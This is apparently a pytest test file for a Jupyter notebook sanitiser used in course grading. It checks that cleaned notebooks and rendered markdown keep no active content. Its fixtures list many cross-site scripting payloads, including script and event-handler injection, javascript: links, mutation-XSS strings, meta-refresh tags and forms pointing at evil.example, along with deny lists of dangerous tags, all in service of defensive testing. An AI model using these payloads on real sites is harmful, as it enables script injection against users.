"""What a cleaned notebook still holds, and what it never holds."""

import copy
import json

import nbformat
import pytest
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output, new_raw_cell

from lecturekit.checking.verdict import Verdict
from lecturekit.explore import style
from lecturekit.grading.clean import (
    MARKDOWN_LIMIT,
    NOTEBOOK_LIMIT,
    OUTPUT_LIMIT,
    clean,
    is_safe_id,
    rendered,
    sanitise,
)

PNG = "iVBORw0KGgo="
FORBIDDEN = (
    "<script",
    "onerror",
    "onload",
    "onclick",
    "<iframe",
    "<style",
    "<form",
    "<svg",
    "<object",
    "<meta",
    "<base",
)


def cleaned(*cells, **metadata):
    return clean(new_notebook(cells=list(cells), metadata=metadata))


def shown(data, metadata=None):
    """A code cell that displays one bundle."""
    return new_code_cell("x", outputs=[new_output("display_data", data, metadata=metadata or {})])


def marks(name):
    return {"nbgrader": {"grade": True, "grade_id": name, "locked": False, "points": 1, "schema_version": 3}}


HTML = {
    "script": "<p>a</p><script>alert(1)</script>",
    "event": '<img src="x" onerror="alert(1)">',
    "svg": "<svg onload=alert(1)><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "frame": '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
    "link": '<a href="javascript:alert(1)">x</a><a href=" java&#x09;script:alert(1)">y</a>',
    "data link": '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
    "style": '<style>@import url("http://evil.example/a.css")</style>',
    "style attribute": '<p style="background:url(http://evil.example/a);position:fixed;margin:-9em">x</p>',
    "form": '<form action="http://evil.example"><button class="full-credit">x</button></form>',
    "remote picture": '<img src="http://evil.example/who.png">',
    "bootstrap": '<a data-toggle="collapse" data-target="<img src=x onerror=alert(1)>" href="#">x</a>',
    "clobber": '<a id="MathJax" name="MathJax">x</a><div id="double-test">x</div>',
    "mutation": "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=1 onerror=alert(1)>'>",
    "noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "comment": "<!--><img src=x onerror=alert(1)>-->",
    "meta": '<meta http-equiv="refresh" content="0;url=http://evil.example"><base href="http://evil.example/">',
}


class Tags:
    """The tags and attributes a browser would see, collected by Python's own parser, not by the one that cleans."""

    def __init__(self, html):
        from html.parser import HTMLParser

        found = self.found = []

        class Reader(HTMLParser):
            def handle_starttag(self, tag, attributes):
                found.append((tag, dict(attributes)))

        Reader().feed(html)

    def __contains__(self, words):
        return words in json.dumps(self.found)


def assert_harmless(html):
    tags = Tags(html)
    for tag, attributes in tags.found:
        assert tag not in ("script", "iframe", "style", "form", "button", "input", "svg", "math", "meta", "base"), html
        assert not any(name.startswith(("on", "data-")) or name == "name" for name in attributes), html
        assert attributes.get("src", "data:image/").startswith("data:image/"), html
        assert attributes.get("href", "#").startswith(("#", "http://", "https://", "mailto:")), html
        assert "url(" not in (attributes.get("style") or "") and "position" not in (attributes.get("style") or ""), html


@pytest.mark.parametrize("name", HTML)
def test_html_output_keeps_no_active_content(name):
    notebook, notes = cleaned(shown({"text/html": HTML[name], "text/plain": "x"}))
    assert_harmless(notebook.cells[0].outputs[0].data["text/html"])
    # a style is trimmed silently, as pandas and matplotlib bring styles that nobody misses
    assert notes or name in ("comment", "style attribute")


@pytest.mark.parametrize("name", HTML)
def test_markdown_renders_without_active_content(name):
    notebook, _ = cleaned(new_markdown_cell(f"Before.\n\n{HTML[name]}\n\nAfter, *well*."))
    html = rendered(notebook.cells[0].source, {})
    assert_harmless(html)
    assert "Before." in html and ("<em>well</em>" in html or name == "mutation")  # it opens a comment


@pytest.mark.parametrize(
    "source",
    [
        "[x](javascript:alert(1))",
        "[x](java\tscript:alert(1))",
        "[x](&#106;avascript:alert(1))",
        "<javascript:alert(1)>",
        "[x]: javascript:alert(1)\n\n[x]",
        '<a href="/files/javascript:alert(1)">x</a>',
        "[x](/files/javascript:alert(1))",
        r"\[x\](javascript:alert(1)) <b>",
        "![x](http://evil.example/who.png)",
        "![x](data:image/svg+xml;base64,PHN2Zz4=)",
        "```mermaid\ngraph TD; A[<img src=x onerror=alert(1)>]\n```",
        "`<script>` <script>alert(1)</script>",
        "    <script>\n\n<script>alert(1)</script>",
        "$$ </script><img src=x onerror=alert(1)> $$ <b>",
        '<h1 id="x">a</h1>\n\n# double-test',
        "x <b>\n\n&lt;script&gt;alert(1)&lt;/script&gt;\n\n    &lt;img src=x onerror=alert(1)&gt;\n</b>",
    ],
)
def test_markdown_itself_carries_nothing_active(source):
    notebook, _ = clean(
        new_notebook(cells=[new_markdown_cell(source), new_code_cell("t", metadata=marks("double-test"))])
    )
    html = rendered(notebook.cells[0].source, {})
    assert_harmless(html)
    assert 'id="double-test"' not in html


def test_a_heading_named_like_a_test_does_not_catch_the_graders_buttons():
    """formgrader finds the score box of a test by its id, the first on the page, and saves what is entered there."""
    notebook, _ = cleaned(
        new_markdown_cell("# double-test\n\nMine."), new_code_cell("t", metadata=marks("double-test"))
    )
    html = rendered(notebook.cells[0].source, {})
    assert "<h1>" in html and 'id="double-test"' not in html
    assert 'id="double-test"' in rendered("# double-test", {})  # as it would be without cleaning


HONEST = [
    "# A heading\n\nText with *stress*, `code < 3`, $a_b < c$ and a [link](https://arxiv.org/abs/2106.09685).",
    "$$W' = W + \\frac{\\alpha}{r} BA$$\n\n- one\n- two\n\n| a | b |\n|---|---|\n| 1 | 2 |",
    "```python\nif a < b and c > d:\n    print('<script>')\n```",
    "Because r < d, and 3 > 2 & so on.",
]


@pytest.mark.parametrize("source", HONEST)
def test_ordinary_markdown_stays_letter_by_letter(source):
    notebook, notes = cleaned(new_markdown_cell(source))
    assert notebook.cells[0].source == source and notes == []


def test_harmless_html_in_markdown_looks_the_same():
    source = (
        '<details><summary>Why</summary>\n\nBecause **r**.\n\n</details>\n\n<div class="alert alert-info">Mind.</div>'
    )
    notebook, notes = cleaned(new_markdown_cell(source))
    html = rendered(notebook.cells[0].source, {})
    for part in ("<details><summary>Why</summary>", "<strong>r</strong>", '<div class="alert alert-info">Mind.</div>'):
        assert part in html
    assert notes == []


def test_the_releases_own_cells_stay_as_they_are():
    source = '<div class="mine" onclick="x()">Course text</div>'
    assert clean(new_notebook(cells=[new_markdown_cell(source)]), trusted={source})[0].cells[0].source == source


def test_verdict_cards_and_pictures_with_their_text_survive_unchanged():
    card = Verdict("lora.merge", False, "value", "it <b> differs", hint="a & b", misconception="forgets")._repr_html_()
    figure, _ = style.figure()
    picture = style.alt(figure, 'A "line" where x < y')._repr_html_()
    for html in (card, picture):
        got, refused = sanitise(html)
        assert got == html.replace("&#x27;", "'") and not refused


def test_of_the_output_kinds_only_the_listed_stay():
    data = {
        "text/plain": "x",
        "image/png": PNG,
        "image/svg+xml": "<svg onload=alert(1)>",
        "application/javascript": "alert(1)",
        "application/vnd.jupyter.widget-view+json": {"model_id": "x"},
        "text/latex": "x",
        "<b>/x": "x",
    }
    notebook, notes = cleaned(shown(data), widgets={"application/vnd.jupyter.widget-state+json": {"state": {}}})
    assert set(notebook.cells[0].outputs[0].data) == {"text/plain", "image/png"}
    assert "widgets" not in notebook.metadata
    assert len(notes) == 5 and not any("<" in note for note in notes)


def test_markdown_output_becomes_sanitised_html():
    notebook, _ = cleaned(shown({"text/markdown": "**b** <script>alert(1)</script>", "text/plain": "x"}))
    data = notebook.cells[0].outputs[0].data
    assert "text/markdown" not in data and "<strong>b</strong>" in data["text/html"]
    assert_harmless(data["text/html"])


def test_metadata_that_goes_into_the_page_unquoted_holds_numbers_only():
    hostile = {"image/png": {"width": "1 onload=alert(1)", "height": 3, "alt": "a"}, "text/html": {"isolated": True}}
    notebook, _ = cleaned(shown({"image/png": PNG}, hostile))
    assert notebook.cells[0].outputs[0].metadata == {"image/png": {"height": 3, "alt": "a"}}
    nb = new_notebook(cells=[new_code_cell("x")])
    nb.cells[0]["execution_count"] = "<img src=x onerror=alert(1)>"
    assert clean(nb)[0].cells[0].execution_count is None


def test_a_picture_must_be_base64():
    notebook, notes = cleaned(shown({"image/png": '"><script>alert(1)</script>', "text/plain": "x"}))
    assert set(notebook.cells[0].outputs[0].data) == {"text/plain"} and notes


def test_sizes_are_capped_and_the_cut_is_told():
    notebook, notes = cleaned(
        new_code_cell("x", outputs=[new_output("stream", name="stdout", text="x" * (OUTPUT_LIMIT + 1))]),
        shown({"image/png": "A" * (OUTPUT_LIMIT + 1)}),
        new_markdown_cell("y" * (MARKDOWN_LIMIT + 1)),
    )
    assert len(notebook.cells[0].outputs[0].text) <= OUTPUT_LIMIT and notebook.cells[1].outputs == []
    assert len(notebook.cells[2].source) < MARKDOWN_LIMIT + 100 and len(notes) == 3
    many = [shown({"image/png": "A" * (OUTPUT_LIMIT - 200)}) for _ in range(NOTEBOOK_LIMIT // OUTPUT_LIMIT + 5)]
    notebook, notes = cleaned(*many)
    assert len(json.dumps(notebook)) < 1.1 * NOTEBOOK_LIMIT and notes


def test_attachments_are_pictures_only():
    cell = new_markdown_cell("![a](attachment:a.png)")
    cell.attachments = {"a.png": {"image/png": PNG}, "b.svg": {"image/svg+xml": "<svg onload=alert(1)>"}}
    notebook, notes = cleaned(cell)
    assert notebook.cells[0].attachments == {"a.png": {"image/png": PNG}} and len(notes) == 1
    assert notebook.cells[0].source == cell.source


@pytest.mark.parametrize(
    "source", ["![a](attachment:gone.png)", ">" * 9000, "<div>" * 9000, "[" * 9000, "\x00<b>\x00", "`" * 4000 + "<b>"]
)
def test_text_that_breaks_the_parser_is_shown_as_written(source):
    notebook, _ = cleaned(new_markdown_cell(source))
    assert_harmless(rendered(notebook.cells[0].source, {}))


@pytest.mark.parametrize(
    "notebook",
    [
        {},
        {"cells": None, "metadata": []},
        {"cells": [None, 3, {}, {"cell_type": "code"}, {"cell_type": "code", "outputs": [None, {}, {"data": 1}]}]},
        {"cells": [{"cell_type": "markdown", "source": ["a", 3], "attachments": [1], "metadata": {"nbgrader": 3}}]},
        {"cells": [{"cell_type": "code", "source": 3, "outputs": [{"output_type": "stream", "text": 3, "name": []}]}]},
        {"cells": [{"cell_type": "code", "outputs": [{"output_type": "error", "traceback": [3], "ename": None}]}]},
    ],
)
def test_a_broken_notebook_does_not_raise_and_comes_out_valid(notebook):
    made, _ = clean(notebook)
    for number, cell in enumerate(made.cells):
        cell["id"] = f"c{number}"
    nbformat.validate(made)


def test_raw_cells_are_left_out():
    notebook, notes = cleaned(new_raw_cell("<script>alert(1)</script>"), new_code_cell("1"))
    assert [cell.cell_type for cell in notebook.cells] == ["code"] and len(notes) == 1


def test_cleaning_twice_changes_nothing_more():
    cells = [new_markdown_cell(f"{html}\n\n*x*") for html in HTML.values()] + [
        shown({"text/html": h}) for h in HTML.values()
    ]
    once, _ = cleaned(*cells)
    before = copy.deepcopy(once)
    again, _ = clean(once)
    assert again == before


def test_student_ids_that_a_page_may_hold():
    for good in ("ada", "ada.lovelace@uni.edu", "a_b-c+d", "12345", "Jürgen_Öz-Groß_77", "李明_4"):
        assert is_safe_id(good)
    for bad in ("", "..", "a/b", "é" * 120, "<script>", 'a"b', "a b", "\u202ea", ".hidden", "a\n"):
        assert not is_safe_id(bad)
